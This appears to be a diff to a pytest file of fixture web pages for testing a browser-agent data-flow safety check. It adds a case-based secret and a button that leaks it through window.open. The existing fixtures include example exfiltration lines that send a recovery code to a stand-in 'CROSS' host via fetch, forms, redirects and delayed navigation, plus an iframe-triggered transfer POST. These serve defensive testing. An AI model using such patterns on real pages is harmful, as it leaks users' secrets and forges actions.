@@ -21,6 +21,8 @@ import pytest
 
 SECRET = "ZX44719920QQ"
 """What the first site shows the task (a code: data by app.safety.dataflow's rules)."""
+CASE_SECRET = "qWmZbXkRt"
+"""A code of letters only, data by its letter case alone (an upper-case letter right after a lower-case one)."""
 LATER_MS = 4500
 """How long the "later" buttons wait before their page sends: past any window an action's hold kept open."""
 
@@ -127,6 +129,7 @@ for (let i = 0; i < 4; i++) { const f = document.createElement('iframe'); f.src 
     "frame-inner": """<title>Inner</title><p>frame</p>
 <script>addEventListener('message', () => fetch(location.origin + '/api/transfer', {method: 'POST', body: 'amount=5'}));</script>""",
     "secret": f"""<title>Account</title><h1>Your account</h1><p>Your recovery code is {SECRET}.</p>
+<p>Your invite word is {CASE_SECRET}.</p>
 <form method="get" action="CROSS/search"><input type="hidden" name="q" value="{SECRET}"><button id="find">Find</button></form>
 <a id="out" href="/redirect?to=CROSS/land%3Fref%3D{SECRET}">Next page</a>
 <button id="leak" onclick="fetch('CROSS/collect?d={SECRET}', {{mode: 'no-cors'}})">Share</button>
@@ -136,6 +139,7 @@ for (let i = 0; i < 4; i++) { const f = document.createElement('iframe'); f.src 
 <button id="go-later" onclick="setTimeout(() => {{ location.href = 'CROSS/land?ref={SECRET}'; }}, LATER_MS)">Continue</button>
 <button id="open-leak" onclick="window.open('CROSS/land?ref={SECRET}')">Details</button>
 <button id="open-path-leak" onclick="window.open('CROSS/u/{SECRET}')">Profile</button>
+<button id="open-case-leak" onclick="window.open('CROSS/go/{CASE_SECRET}')">Invite</button>
 <button id="open-path-digits" onclick="window.open('CROSS/guides/2024/delivery')">Guide</button>
 <button id="open-path-words" onclick="window.open('CROSS/help/delivery-times')">Help</button>""",
 }
